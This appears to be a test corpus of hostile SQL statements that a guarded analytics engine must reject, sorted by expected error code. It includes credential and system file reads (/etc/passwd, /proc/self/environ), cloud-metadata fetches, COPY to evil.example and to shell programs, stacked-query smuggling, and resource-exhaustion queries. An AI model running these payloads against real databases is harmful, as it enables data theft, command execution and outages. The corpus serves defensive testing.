# Statements that strangers send, each with the code it must be refused with. `= code` says what is expected of the lines
# that follow, one statement a line. `⏎` stands for the end of a line, `⇥` for a tab, `␀` for a zero byte, and ⟦text×n⟧
# for n times the text. Run by engine/tests/it/corpus.rs against the engine, and by tests/python/sql_guard.py against a
# process whose memory and open files are watched.

# --- Writes.
= read_only
INSERT INTO events SELECT * FROM events
INSERT INTO events VALUES (1)
INSERT INTO events DEFAULT VALUES
INSERT INTO events (page) VALUES ('/') RETURNING page
INSERT INTO events VALUES (1) ON CONFLICT DO NOTHING
INSERT OVERWRITE events SELECT * FROM events
INSERT INTO dead_letters SELECT * FROM dead_letters
INSERT INTO alerts SELECT * FROM alerts
INSERT INTO information_schema.tables VALUES ('x')
UPDATE events SET page = '/'
UPDATE events SET page = '/' WHERE seq = 1 RETURNING *
UPDATE orders SET total = 0
DELETE FROM events
DELETE FROM events WHERE seq = 1
DELETE FROM events USING orders WHERE true
TRUNCATE TABLE events
TRUNCATE events
MERGE INTO events USING events e ON true WHEN MATCHED THEN DELETE
MERGE INTO events USING orders o ON true WHEN NOT MATCHED THEN INSERT VALUES (1)
REPLACE INTO events VALUES (1)
SELECT * INTO t FROM events
SELECT * INTO TEMP t FROM events
SELECT * FROM events FOR UPDATE
SELECT * FROM events FOR UPDATE SKIP LOCKED
SELECT * FROM events FOR SHARE
SELECT * FROM (SELECT * FROM events FOR UPDATE) AS x
SELECT (SELECT seq FROM events LIMIT 1 FOR UPDATE)
WITH x AS (SELECT 1) INSERT INTO events SELECT * FROM x
WITH x AS (SELECT 1) DELETE FROM events
WITH x AS (SELECT 1) UPDATE events SET page = '/'
WITH x AS (DELETE FROM events RETURNING *) SELECT * FROM x
WITH x AS (INSERT INTO events VALUES (1) RETURNING *) SELECT * FROM x
WITH x AS (UPDATE events SET page = '/' RETURNING *) SELECT * FROM x
EXPLAIN DELETE FROM events
EXPLAIN INSERT INTO events SELECT * FROM events
EXPLAIN ANALYZE INSERT INTO events SELECT * FROM events
EXPLAIN ANALYZE VERBOSE DELETE FROM events
EXPLAIN UPDATE events SET page = '/'
OPTIMIZE TABLE events
VACUUM
VACUUM FULL events
LOCK TABLE events IN EXCLUSIVE MODE
;DROP
EXEC sp_configure
⟦EXPLAIN ×600⟧SELECT 1
ANALYZE TABLE events

# --- Definitions.
DROP TABLE events
DROP TABLE IF EXISTS events CASCADE
DROP VIEW events
DROP VIEW orders
DROP SCHEMA public CASCADE
DROP DATABASE tideline
DROP FUNCTION now
CREATE TABLE t AS SELECT 1
CREATE TABLE t (a INT)
CREATE TEMPORARY TABLE t AS SELECT * FROM events
CREATE OR REPLACE TABLE events AS SELECT 1
CREATE TABLE IF NOT EXISTS events (a INT)
CREATE UNBOUNDED EXTERNAL TABLE t STORED AS CSV LOCATION '/etc/passwd'
CREATE EXTERNAL TABLE t STORED AS CSV LOCATION '/etc/passwd'
CREATE EXTERNAL TABLE t (a VARCHAR) STORED AS CSV LOCATION 'file:///etc/shadow'
CREATE EXTERNAL TABLE t STORED AS PARQUET LOCATION 's3://bucket/x.parquet'
CREATE EXTERNAL TABLE t STORED AS JSON LOCATION 'http://169.254.169.254/latest/meta-data'
CREATE EXTERNAL TABLE t STORED AS DELTATABLE LOCATION '../lake'
CREATE EXTERNAL TABLE events STORED AS PARQUET LOCATION 'tideline://lake/'
CREATE VIEW v AS SELECT 1
CREATE OR REPLACE VIEW orders AS SELECT 1
CREATE MATERIALIZED VIEW v AS SELECT * FROM events
CREATE DATABASE d
CREATE SCHEMA s
CREATE SCHEMA IF NOT EXISTS s
CREATE FUNCTION f() RETURNS INT AS '1'
CREATE OR REPLACE FUNCTION now() RETURNS INT LANGUAGE SQL RETURN 1
CREATE FUNCTION f() RETURNS INT LANGUAGE C AS '/tmp/evil.so', 'f'
CREATE INDEX i ON events (page)
CREATE ROLE r
CREATE USER u PASSWORD 'x'
CREATE EXTENSION plpython3u
CREATE SEQUENCE s
CREATE TRIGGER t BEFORE INSERT ON events EXECUTE FUNCTION f()
CREATE TYPE t AS ENUM ('a')
CREATE SECRET s (TYPE s3)
CREATE STAGE s
CREATE MACRO m(a) AS a
CREATE POLICY p ON events
ALTER TABLE events ADD COLUMN a INT
ALTER TABLE events RENAME TO other
ALTER TABLE events DROP COLUMN page
ALTER VIEW orders AS SELECT 1
ALTER ROLE r SUPERUSER
ALTER SYSTEM SET x = 1
COMMENT ON TABLE events IS 'x'

# --- Copies, and other ways to files.
COPY events TO '/tmp/x.csv'
COPY events TO STDOUT
COPY events TO PROGRAM 'sh -c id'
COPY events FROM '/etc/passwd'
COPY events FROM PROGRAM 'id'
COPY (SELECT 1) TO '/tmp/x.parquet' STORED AS PARQUET
COPY (SELECT * FROM events) TO 's3://bucket/x.parquet'
COPY (SELECT * FROM events) TO 'http://evil.example/' STORED AS JSON
COPY events TO '../../out.csv' STORED AS CSV
COPY events TO 'tideline://lake/_delta_log/00000000000000000000.json' STORED AS JSON
EXPLAIN COPY events TO '/tmp/x.csv'
LOAD 'httpfs'
LOAD DATA INPATH '/etc/passwd' INTO TABLE events
INSTALL httpfs
ATTACH DATABASE 'x' AS y
ATTACH '/etc/passwd' AS y (TYPE sqlite)
DETACH DATABASE y
UNLOAD ('SELECT 1') TO 's3://x'

# --- Settings, sessions, transactions, other people's queries.
SET datafusion.execution.batch_size = 1
SET datafusion.catalog.location = '/'
SET datafusion.runtime.memory_limit = '1000G'
SET datafusion.execution.parquet.pushdown_filters TO true
SET TIME ZONE 'UTC'
SET search_path = 'other'
SET ROLE admin
SET SESSION AUTHORIZATION admin
SET NAMES 'utf8'
SET TRANSACTION READ WRITE
SET x = (SELECT 1)
RESET datafusion.execution.batch_size
RESET ALL
SHOW ALL
SHOW datafusion.runtime.temp_directory
SHOW datafusion.execution.batch_size
SHOW search_path
SHOW VARIABLES
SHOW TIME ZONE
SHOW CREATE TABLE events
SHOW DATABASES
SHOW SCHEMAS
SHOW VIEWS
SHOW STATUS
SHOW COLLATION
USE x
USE tideline.public
PREPARE p AS SELECT 1
PREPARE p(INT) AS SELECT $1
EXECUTE p
EXECUTE p(1)
EXECUTE IMMEDIATE 'DROP TABLE events'
DEALLOCATE p
DEALLOCATE ALL
DECLARE c CURSOR FOR SELECT 1
FETCH 1 FROM c
CLOSE c
BEGIN
BEGIN TRANSACTION READ WRITE
START TRANSACTION
COMMIT
ROLLBACK
SAVEPOINT s
RELEASE SAVEPOINT s
GRANT SELECT ON events TO x
GRANT ALL PRIVILEGES ON events TO PUBLIC
REVOKE SELECT ON events FROM x
CALL f()
KILL 1
KILL QUERY 1
FLUSH TABLES
DISCARD ALL
PRAGMA database_list
CACHE TABLE events
UNCACHE TABLE events
MSCK REPAIR TABLE events
ASSERT 1 = 1
RAISERROR('x', 1, 1)
PRINT 'x'
EXPLAIN SHOW ALL
EXPLAIN SET datafusion.execution.batch_size = 1
EXPLAIN CREATE TABLE t AS SELECT 1
EXPLAIN EXPLAIN SELECT 1

# --- Several statements, and the tricks that hide a second one.
SELECT 1; SELECT 2
SELECT 1; DROP TABLE events
SELECT 1;; DROP TABLE events
SELECT 1; -- comment⏎DELETE FROM events
SELECT 1 /* ; */; DELETE FROM events
SELECT 1;⏎⏎COPY events TO '/tmp/x.csv'
SELECT ';'; DROP TABLE events
SELECT $$;$$; DROP TABLE events
EXPLAIN SELECT 1; DROP TABLE events
DROP TABLE events; SELECT 1
SET x = 1; SELECT 1
/* SELECT 1 */ DROP TABLE events
-- SELECT 1⏎DROP TABLE events
--⏎DELETE FROM events
/**/DELETE/**/FROM/**/events
/* /* nested */ */ DROP TABLE events
dRoP tAbLe events
⇥⏎DROP⏎TABLE⇥events
DROP TABLE "events"
DROP TABLE tideline.public.events
DROP TABLE EVENTS
SELECT 1;/**/SELECT 2/**/
SELECT 1 AS "a;b"; SELECT 2
SELECT E'\''; DROP TABLE events
SELECT 'a''b'; DROP TABLE events
SELECT 1 -- '⏎; DROP TABLE events -- '

# --- Whatever a dialect might take for a statement.
= syntax_error
SELECT * FROM events SETTINGS max_threads = 1; DROP TABLE
DO $$ BEGIN END $$
REFRESH MATERIALIZED VIEW orders
LISTEN x
UNLISTEN x
NOTIFY x
SELECT * FROM U&'\002Fetc\002Fpasswd'
SELECT * FROM $$/etc/passwd$$
TABLE '/etc/passwd'
TABLE other
TABLE events
SELECT * FROM openrowset(bulk '/etc/passwd')
SELECT user()
SELECT session_user()
GO
HANDLER events OPEN
\d events
.open /etc/passwd
!ls
@script.sql
SELECT 'open
SELECT "open
SELECT /* open
SELECT $tag$ open
SELECT (1
SELECT 1)
SELECT ]1[
SELECT 1 FROM
SELECT * FROM events WHERE
SELECT * FROM events ORDER
SELECT page FORM events
SELECT CAST(1 AS)
SELECT ␀1
SELECT 1 ␀; DROP TABLE events
SELECT ‘x’
SELECT 1 WHERE 1=1 OR
SELECT U&'\zzzz'
SELECT * FROM events LIMIT ALL ALL
SELECT $1$2
(((
)
''
SELECT 1 UNION
WITH x AS (SELECT 1)
WITH SELECT 1
VALUES
TABLE
FROM
EXPLAIN
DESCRIBE

# --- Files and addresses where a table stands.
= unknown_table
SELECT * FROM '/etc/passwd'
SELECT * FROM "/etc/passwd"
SELECT * FROM `/etc/passwd`
SELECT * FROM 'file:///etc/passwd'
SELECT * FROM "file:///etc/passwd"
SELECT * FROM 's3://bucket/x.parquet'
SELECT * FROM 'gs://bucket/x.parquet'
SELECT * FROM 'az://container/x.parquet'
SELECT * FROM 'http://169.254.169.254/latest/meta-data'
SELECT * FROM 'https://evil.example/x.csv'
SELECT * FROM 'hdfs://namenode/x'
SELECT * FROM 'data:text/csv,1'
SELECT * FROM 'tideline://lake/x.parquet'
SELECT * FROM "tideline://lake/_delta_log/00000000000000000000.json"
SELECT * FROM '../keys.json'
SELECT * FROM 'keys.json'
SELECT * FROM "keys.json"
SELECT * FROM 'lake/*.parquet'
SELECT * FROM '/proc/self/environ'
SELECT * FROM '/dev/zero'
SELECT * FROM '/dev/stdin'
SELECT * FROM '\\\\host\\share\\x.csv'
SELECT * FROM 'C:\\Windows\\win.ini'
DESCRIBE '/etc/passwd'
SELECT (SELECT count(*) FROM '/etc/passwd')
SELECT * FROM events JOIN '/etc/passwd' ON true
SELECT * FROM events, LATERAL (SELECT * FROM '/etc/passwd') AS x
SELECT * FROM events WHERE page IN (SELECT column_1 FROM '/etc/passwd')
SELECT * FROM events WHERE EXISTS (SELECT 1 FROM '/etc/passwd')
WITH a AS (SELECT * FROM '/etc/passwd') SELECT * FROM a
SELECT 1 UNION ALL SELECT * FROM '/etc/passwd'
SELECT * FROM (VALUES (1)) AS v JOIN "/etc/passwd" ON true
SELECT max((SELECT 1 FROM '/etc/passwd')) OVER () FROM events
SELECT 1 FROM events ORDER BY (SELECT 1 FROM '/etc/passwd')
SELECT 1 FROM events GROUP BY (SELECT 1 FROM '/etc/passwd')
SELECT 1 FROM events HAVING (SELECT true FROM '/etc/passwd')
SELECT CASE WHEN (SELECT true FROM '/etc/passwd') THEN 1 END
EXPLAIN SELECT * FROM '/etc/passwd'
EXPLAIN ANALYZE SELECT * FROM '/etc/passwd'
EXPLAIN VERBOSE SELECT * FROM other

# --- Tables of others, and what the system knows of itself.
SELECT * FROM other
SELECT * FROM tideline.secret.events
SELECT * FROM other.public.events
SELECT * FROM other.events
SELECT * FROM a.b.c.d
SELECT * FROM ""
SELECT * FROM ".events"
SELECT * FROM "public.events"
SELECT * FROM "tideline.public.events"
SELECT * FROM "events;"
SELECT * FROM "events--"
SELECT * FROM "EVENTS␀"
SELECT * FROM "events "
SELECT * FROM еvents
SELECT * FROM ｅｖｅｎｔｓ
SELECT * FROM "e\u0076ents"
SELECT * FROM information_schema.df_settings
SELECT * FROM tideline.information_schema.df_settings
SELECT * FROM "information_schema"."DF_SETTINGS"
SELECT * FROM INFORMATION_SCHEMA.DF_SETTINGS
SELECT * FROM information_schema.processlist
SELECT * FROM information_schema.user_privileges
SELECT * FROM pg_catalog.pg_shadow
SELECT * FROM pg_shadow
SELECT * FROM pg_authid
SELECT * FROM pg_stat_activity
SELECT * FROM pg_file_settings
SELECT * FROM pg_settings
SELECT * FROM mysql.user
SELECT * FROM sqlite_master
SELECT * FROM sys.tables
SELECT * FROM system.users
SELECT * FROM system.query_log
SELECT * FROM duckdb_settings
SELECT * FROM delta_log
SELECT * FROM keys
SELECT * FROM sessions_keys
SELECT FROM WHERE
DESCRIBE other
DESCRIBE information_schema.df_settings
SELECT a.x FROM (SELECT 1 AS x) a, other b

# --- Functions where a table stands: those that read elsewhere.
= unknown_function | unknown_table
SELECT * FROM read_csv('/etc/passwd')
SELECT * FROM read_csv_auto('/etc/passwd')
SELECT * FROM read_parquet('/x.parquet')
SELECT * FROM read_json('http://169.254.169.254/')
SELECT * FROM read_text('/etc/passwd')
SELECT * FROM read_blob('/etc/passwd')
SELECT * FROM parquet_metadata('/x')
SELECT * FROM parquet_scan('/x')
SELECT * FROM metadata_cache()
SELECT * FROM statistics_cache()
SELECT * FROM list_files_cache()
SELECT * FROM glob('/*')
SELECT * FROM delta_scan('/work')
SELECT * FROM iceberg_scan('/work')
SELECT * FROM file('/etc/passwd')
SELECT * FROM url('http://evil.example/', 'CSV')
SELECT * FROM s3('https://bucket/x', 'CSV')
SELECT * FROM remote('host', 'db', 'table')
SELECT * FROM mysql('host:3306', 'db', 'table', 'u', 'p')
SELECT * FROM postgresql('host:5432', 'db', 'table', 'u', 'p')
SELECT * FROM jdbc('jdbc:x', 'table')
SELECT * FROM executable('id', 'TabSeparated', 'x String')
SELECT * FROM numbers(1000000000000)
SELECT * FROM pg_ls_dir('/')
SELECT * FROM pg_read_file('/etc/passwd')
SELECT * FROM dblink('host=evil', 'SELECT 1')
SELECT * FROM sqlite_scan('/x', 't')
SELECT * FROM pragma_database_list()

# --- Functions that read files, wait, run programs, or tell about the host.
= unknown_function
SELECT pg_read_file('/etc/passwd')
SELECT pg_read_binary_file('/etc/passwd')
SELECT pg_ls_dir('/')
SELECT pg_sleep(10)
SELECT sleep(10)
SELECT benchmark(1000000000, sha1('x'))
SELECT pg_terminate_backend(1)
SELECT pg_reload_conf()
SELECT lo_import('/etc/passwd')
SELECT load_file('/etc/passwd')
SELECT load_extension('/tmp/evil.so')
SELECT readfile('/etc/passwd')
SELECT writefile('/tmp/x', 'y')
SELECT system('id')
SELECT sys_exec('id')
SELECT xp_cmdshell('id')
SELECT shell('id')
SELECT eval('1')
SELECT query_to_xml('SELECT 1', true, true, '')
SELECT current_setting('data_directory')
SELECT set_config('x', 'y', false)
SELECT inet_server_addr()
SELECT getenv('TIDELINE_KEY')
SELECT hostname()
SELECT input_file_name() FROM events
SELECT file_row_index() FROM events
SELECT txid_current()
SELECT dblink_connect('host=evil')
SELECT extractvalue('x', '/y')
SELECT http_get('http://evil.example/')
SELECT sum(pg_sleep(1)) FROM events
SELECT * FROM events WHERE pg_read_file('/etc/passwd') LIKE '%root%'
SELECT count(*) FILTER (WHERE pg_sleep(1) IS NULL) FROM events

# --- Shapes that overflow a stack while they are parsed or planned, or stand for far more than they say.
= query_too_complex | query_too_large
SELECT 1⟦+1×2000⟧
SELECT seq FROM events WHERE seq = 1⟦+1×20000⟧
SELECT 1⟦-1×2000⟧
SELECT 1⟦*1×2000⟧
SELECT 1⟦%1×2000⟧
SELECT 1⟦^1×2000⟧
SELECT 1⟦&1×2000⟧
SELECT 1⟦<<1×2000⟧
SELECT 'a'⟦||'a'×2000⟧
SELECT 'a'⟦ LIKE 'a'×2000⟧
SELECT * FROM events WHERE seq = 0⟦ OR seq = 1×5000⟧
SELECT * FROM events WHERE seq = 0⟦ AND seq = 1×5000⟧
SELECT * FROM events WHERE seq = 0⟦ XOR seq = 1×3000⟧
SELECT 1⟦ UNION ALL SELECT 1×3000⟧
SELECT 1⟦ INTERSECT SELECT 1×3000⟧
SELECT 1⟦ EXCEPT SELECT 1×3000⟧
SELECT ⟦(×10000⟧1⟦)×10000⟧
SELECT ⟦abs(×5000⟧1⟦)×5000⟧
SELECT ⟦[×5000⟧1⟦]×5000⟧
SELECT ⟦{a:×5000⟧1⟦}×5000⟧
SELECT ⟦struct(×500⟧1⟦)×500⟧
SELECT * FROM ⟦(SELECT * FROM ×1000⟧events⟦)×1000⟧
SELECT ⟦(SELECT ×1000⟧1⟦)×1000⟧
SELECT * FROM events WHERE ⟦EXISTS (SELECT 1 WHERE ×1000⟧true⟦)×1000⟧
SELECT ⟦NOT ×5000⟧true
SELECT ⟦- ×5000⟧1
SELECT ⟦~ ×5000⟧1
SELECT 1⟦::int×5000⟧
SELECT ⟦CAST(×2000⟧1⟦ AS INT)×2000⟧
SELECT 1⟦ IS NULL×5000⟧
SELECT 1⟦ IS NOT DISTINCT FROM 1×2000⟧
SELECT 1⟦ BETWEEN 0 AND 1×2000⟧
SELECT 1⟦ IN (1)×2000⟧
SELECT items⟦[1]×5000⟧ FROM events
SELECT properties⟦->'a'×2000⟧ FROM events
SELECT properties⟦->>'a'×2000⟧ FROM events
SELECT 'a'⟦ COLLATE x×2000⟧
SELECT now()⟦ AT TIME ZONE 'UTC'×2000⟧
SELECT ⟦CASE WHEN true THEN ×2000⟧1⟦ END×2000⟧
SELECT CASE ⟦WHEN true THEN 1 ×2000⟧END
SELECT 1 FROM events⟦ JOIN events ON true×2000⟧
SELECT 1 FROM events⟦ NATURAL JOIN events×2000⟧
SELECT 1 FROM events⟦, events×5000⟧
SELECT ⟦sum(seq) OVER (), ×2000⟧1 FROM events
⟦WITH a AS (×300⟧SELECT 1⟦) SELECT * FROM a×300⟧
WITH c0 AS (SELECT 1 AS x), c1 AS (SELECT a.x FROM c0 a, c0 b), c2 AS (SELECT a.x FROM c1 a, c1 b), c3 AS (SELECT a.x FROM c2 a, c2 b), c4 AS (SELECT a.x FROM c3 a, c3 b), c5 AS (SELECT a.x FROM c4 a, c4 b), c6 AS (SELECT a.x FROM c5 a, c5 b), c7 AS (SELECT a.x FROM c6 a, c6 b), c8 AS (SELECT a.x FROM c7 a, c7 b) SELECT count(*) FROM c8
SELECT 1 FROM events GROUP BY CUBE (page, country, seq, node, city, os, bot, brand)
# Types that are worked out several times for the level above: planning of exponential time, in a few hundred bytes.
SELECT ⟦CAST(CAST(×20⟧event_id⟦ AS BIGINT) + 1 AS TEXT)×20⟧ FROM events
SELECT ⟦coalesce(×25⟧seq⟦, 1)×25⟧ FROM events
SELECT ⟦encode(×40⟧event_id⟦, 'hex')×40⟧ FROM events
SELECT ⟦nvl(×25⟧seq⟦, 1)×25⟧ FROM events
SELECT ⟦nullif(×25⟧seq⟦, 1)×25⟧ FROM events
SELECT ⟦greatest(×25⟧seq⟦, 1)×25⟧ FROM events
SELECT x FROM ⟦(SELECT coalesce(x, 1) AS x FROM ×25⟧(SELECT seq AS x FROM events) AS y⟦) AS y×25⟧
WITH c0 AS (SELECT '1' AS x), c1 AS (SELECT CAST(CAST(x AS BIGINT) + 1 AS TEXT) AS x FROM c0), c2 AS (SELECT CAST(CAST(x AS BIGINT) + 1 AS TEXT) AS x FROM c1), c3 AS (SELECT CAST(CAST(x AS BIGINT) + 1 AS TEXT) AS x FROM c2), c4 AS (SELECT CAST(CAST(x AS BIGINT) + 1 AS TEXT) AS x FROM c3), c5 AS (SELECT CAST(CAST(x AS BIGINT) + 1 AS TEXT) AS x FROM c4), c6 AS (SELECT CAST(CAST(x AS BIGINT) + 1 AS TEXT) AS x FROM c5), c7 AS (SELECT CAST(CAST(x AS BIGINT) + 1 AS TEXT) AS x FROM c6), c8 AS (SELECT CAST(CAST(x AS BIGINT) + 1 AS TEXT) AS x FROM c7), c9 AS (SELECT CAST(CAST(x AS BIGINT) + 1 AS TEXT) AS x FROM c8), c10 AS (SELECT CAST(CAST(x AS BIGINT) + 1 AS TEXT) AS x FROM c9), c11 AS (SELECT CAST(CAST(x AS BIGINT) + 1 AS TEXT) AS x FROM c10), c12 AS (SELECT CAST(CAST(x AS BIGINT) + 1 AS TEXT) AS x FROM c11), c13 AS (SELECT CAST(CAST(x AS BIGINT) + 1 AS TEXT) AS x FROM c12), c14 AS (SELECT CAST(CAST(x AS BIGINT) + 1 AS TEXT) AS x FROM c13), c15 AS (SELECT CAST(CAST(x AS BIGINT) + 1 AS TEXT) AS x FROM c14), c16 AS (SELECT CAST(CAST(x AS BIGINT) + 1 AS TEXT) AS x FROM c15), c17 AS (SELECT CAST(CAST(x AS BIGINT) + 1 AS TEXT) AS x FROM c16), c18 AS (SELECT CAST(CAST(x AS BIGINT) + 1 AS TEXT) AS x FROM c17), c19 AS (SELECT CAST(CAST(x AS BIGINT) + 1 AS TEXT) AS x FROM c18), c20 AS (SELECT CAST(CAST(x AS BIGINT) + 1 AS TEXT) AS x FROM c19), c21 AS (SELECT CAST(CAST(x AS BIGINT) + 1 AS TEXT) AS x FROM c20), c22 AS (SELECT CAST(CAST(x AS BIGINT) + 1 AS TEXT) AS x FROM c21), c23 AS (SELECT CAST(CAST(x AS BIGINT) + 1 AS TEXT) AS x FROM c22), c24 AS (SELECT CAST(CAST(x AS BIGINT) + 1 AS TEXT) AS x FROM c23), c25 AS (SELECT CAST(CAST(x AS BIGINT) + 1 AS TEXT) AS x FROM c24), c26 AS (SELECT CAST(CAST(x AS BIGINT) + 1 AS TEXT) AS x FROM c25), c27 AS (SELECT CAST(CAST(x AS BIGINT) + 1 AS TEXT) AS x FROM c26), c28 AS (SELECT CAST(CAST(x AS BIGINT) + 1 AS TEXT) AS x FROM c27), c29 AS (SELECT CAST(CAST(x AS BIGINT) + 1 AS TEXT) AS x FROM c28) SELECT x FROM c29
WITH c0 AS (SELECT seq AS x FROM events), c1 AS (SELECT coalesce(x, 1) AS x FROM c0 WHERE x > 1), c2 AS (SELECT coalesce(x, 2) AS x FROM c1 WHERE x > 2), c3 AS (SELECT coalesce(x, 3) AS x FROM c2 WHERE x > 3), c4 AS (SELECT coalesce(x, 4) AS x FROM c3 WHERE x > 4), c5 AS (SELECT coalesce(x, 5) AS x FROM c4 WHERE x > 5), c6 AS (SELECT coalesce(x, 6) AS x FROM c5 WHERE x > 6), c7 AS (SELECT coalesce(x, 7) AS x FROM c6 WHERE x > 7), c8 AS (SELECT coalesce(x, 8) AS x FROM c7 WHERE x > 8), c9 AS (SELECT coalesce(x, 9) AS x FROM c8 WHERE x > 9), c10 AS (SELECT coalesce(x, 10) AS x FROM c9 WHERE x > 10), c11 AS (SELECT coalesce(x, 11) AS x FROM c10 WHERE x > 11), c12 AS (SELECT coalesce(x, 12) AS x FROM c11 WHERE x > 12), c13 AS (SELECT coalesce(x, 13) AS x FROM c12 WHERE x > 13), c14 AS (SELECT coalesce(x, 14) AS x FROM c13 WHERE x > 14), c15 AS (SELECT coalesce(x, 15) AS x FROM c14 WHERE x > 15), c16 AS (SELECT coalesce(x, 16) AS x FROM c15 WHERE x > 16), c17 AS (SELECT coalesce(x, 17) AS x FROM c16 WHERE x > 17), c18 AS (SELECT coalesce(x, 18) AS x FROM c17 WHERE x > 18), c19 AS (SELECT coalesce(x, 19) AS x FROM c18 WHERE x > 19), c20 AS (SELECT coalesce(x, 20) AS x FROM c19 WHERE x > 20), c21 AS (SELECT coalesce(x, 21) AS x FROM c20 WHERE x > 21), c22 AS (SELECT coalesce(x, 22) AS x FROM c21 WHERE x > 22), c23 AS (SELECT coalesce(x, 23) AS x FROM c22 WHERE x > 23), c24 AS (SELECT coalesce(x, 24) AS x FROM c23 WHERE x > 24), c25 AS (SELECT coalesce(x, 25) AS x FROM c24 WHERE x > 25), c26 AS (SELECT coalesce(x, 26) AS x FROM c25 WHERE x > 26), c27 AS (SELECT coalesce(x, 27) AS x FROM c26 WHERE x > 27), c28 AS (SELECT coalesce(x, 28) AS x FROM c27 WHERE x > 28), c29 AS (SELECT coalesce(x, 29) AS x FROM c28 WHERE x > 29) SELECT x FROM c29
SELECT 1 FROM events GROUP BY CUBE (page, country, seq), CUBE (node, city, os, bot)
SELECT 1 FROM events GROUP BY CUBE (page, country, seq, node), ROLLUP (city, os, bot, brand)
SELECT 1 FROM events GROUP BY GROUPING SETS (⟦(page), ×100⟧(seq))
WITH RECURSIVE t AS (SELECT 1 AS x UNION ALL SELECT x + 1 FROM t) SELECT * FROM t
WITH RECURSIVE t AS (SELECT 1) SELECT * FROM t
SELECT * FROM (WITH RECURSIVE t AS (SELECT 1 AS x UNION ALL SELECT x FROM t) SELECT * FROM t) AS y
SELECT '⟦x×70000⟧'
SELECT 1 --⟦ x×40000⟧
SELECT 1 /*⟦ ×70000⟧*/
SELECT ⟦1,×40000⟧1
⟦;×70000⟧

# --- Functions that make much out of little.
= function_limit
SELECT * FROM generate_series(1, 200000000)
SELECT * FROM generate_series(200000000, 1, -1)
SELECT * FROM generate_series(-9223372036854775808, 9223372036854775807)
SELECT * FROM range(0, 9000000000)
SELECT * FROM generate_series(timestamp '2000-01-01', timestamp '2026-01-01', interval '1 millisecond')
SELECT * FROM generate_series(date '0001-01-01', date '9999-01-01', interval '1 second')
SELECT generate_series(1, 200000000)
SELECT unnest(range(0, 200000000))
SELECT array_length(range(1, seq * 100000000)) FROM events
SELECT repeat('x', 1000000000)
SELECT repeat(repeat('x', 60000), 60000)
SELECT lpad('x', 1000000000, 'y')
SELECT rpad('x', 1000000000)
SELECT lpad('', 2147483647, 'x')
SELECT array_resize([1], 1000000000, 0)
SELECT array_repeat(1, 1000000000)
SELECT array_repeat(array_repeat(repeat('x', 1000), 1000), 1000)
SELECT replace(repeat('x', 1000000), 'x', repeat('y', 1000000))
SELECT regexp_replace(repeat('x', 1000000), 'x', repeat('y', 1000), 'g')
SELECT regexp_replace(repeat('x', 1000000), '', repeat('y', 1000), 'g')
SELECT array_to_string(range(0, 900000), repeat('x', 100000))
SELECT levenshtein(repeat('x', 1000000), repeat('y', 1000000))
SELECT concat(repeat('x', 60000000), repeat('x', 60000000))
SELECT repeat('x', 60000000) || repeat('x', 60000000)
SELECT concat_ws(repeat('x', 30000000), 'a', 'b', 'c', 'd')
SELECT make_array(repeat('x', 60000000), repeat('x', 60000000))
SELECT array_concat(range(0, 900000), range(0, 900000), range(0, 900000), range(0, 900000), range(0, 900000), range(0, 900000), range(0, 900000), range(0, 900000), range(0, 900000), range(0, 900000))
SELECT length(repeat(event_id, 1000000000)) FROM events
SELECT max(length(repeat(event_id, 100000))) FROM generate_series(1, 10000), events
SELECT concat_ws(repeat('x', 16000)⟦, 'a'×200⟧)
SELECT array_to_string(array_repeat(NULL, 4000), ',', repeat('x', 16000))
SELECT array_resize(['a'], 4000, repeat('x', 16000))
SELECT array_replace_all(array_repeat('a', 4000), 'a', repeat('x', 16000))
SELECT to_char(event_ts, repeat('%c', 100000)) FROM events
SELECT to_char(now(), '⟦%c×10000⟧')
SELECT regexp_match(repeat('x', 16000), '⟦(×200⟧x*⟦)×200⟧')
SELECT max(repeat('x', 60000000)) FROM events
SELECT repeat('x', 60000) FROM generate_series(1, 100000)
SELECT range(0, 500000) FROM generate_series(1, 100000)
WITH c AS (SELECT repeat(event_id, 1000000) AS x FROM events) SELECT count(c.x) FROM c, generate_series(1, 1000000)
# Doubled once more in each of sixty subqueries.
= function_limit | query_too_complex
WITH c0 AS (SELECT 'x' AS x), c1 AS (SELECT x || x AS x FROM c0), c2 AS (SELECT x || x AS x FROM c1), c3 AS (SELECT x || x AS x FROM c2), c4 AS (SELECT x || x AS x FROM c3), c5 AS (SELECT x || x AS x FROM c4), c6 AS (SELECT x || x AS x FROM c5), c7 AS (SELECT x || x AS x FROM c6), c8 AS (SELECT x || x AS x FROM c7), c9 AS (SELECT x || x AS x FROM c8), c10 AS (SELECT x || x AS x FROM c9), c11 AS (SELECT x || x AS x FROM c10), c12 AS (SELECT x || x AS x FROM c11), c13 AS (SELECT x || x AS x FROM c12), c14 AS (SELECT x || x AS x FROM c13), c15 AS (SELECT x || x AS x FROM c14), c16 AS (SELECT x || x AS x FROM c15), c17 AS (SELECT x || x AS x FROM c16), c18 AS (SELECT x || x AS x FROM c17), c19 AS (SELECT x || x AS x FROM c18), c20 AS (SELECT x || x AS x FROM c19), c21 AS (SELECT x || x AS x FROM c20), c22 AS (SELECT x || x AS x FROM c21), c23 AS (SELECT x || x AS x FROM c22), c24 AS (SELECT x || x AS x FROM c23), c25 AS (SELECT x || x AS x FROM c24), c26 AS (SELECT x || x AS x FROM c25), c27 AS (SELECT x || x AS x FROM c26), c28 AS (SELECT x || x AS x FROM c27), c29 AS (SELECT x || x AS x FROM c28), c30 AS (SELECT x || x AS x FROM c29), c31 AS (SELECT x || x AS x FROM c30), c32 AS (SELECT x || x AS x FROM c31), c33 AS (SELECT x || x AS x FROM c32), c34 AS (SELECT x || x AS x FROM c33), c35 AS (SELECT x || x AS x FROM c34), c36 AS (SELECT x || x AS x FROM c35), c37 AS (SELECT x || x AS x FROM c36), c38 AS (SELECT x || x AS x FROM c37), c39 AS (SELECT x || x AS x FROM c38), c40 AS (SELECT x || x AS x FROM c39), c41 AS (SELECT x || x AS x FROM c40), c42 AS (SELECT x || x AS x FROM c41), c43 AS (SELECT x || x AS x FROM c42), c44 AS (SELECT x || x AS x FROM c43), c45 AS (SELECT x || x AS x FROM c44), c46 AS (SELECT x || x AS x FROM c45), c47 AS (SELECT x || x AS x FROM c46), c48 AS (SELECT x || x AS x FROM c47), c49 AS (SELECT x || x AS x FROM c48), c50 AS (SELECT x || x AS x FROM c49), c51 AS (SELECT x || x AS x FROM c50), c52 AS (SELECT x || x AS x FROM c51), c53 AS (SELECT x || x AS x FROM c52), c54 AS (SELECT x || x AS x FROM c53), c55 AS (SELECT x || x AS x FROM c54), c56 AS (SELECT x || x AS x FROM c55), c57 AS (SELECT x || x AS x FROM c56), c58 AS (SELECT x || x AS x FROM c57), c59 AS 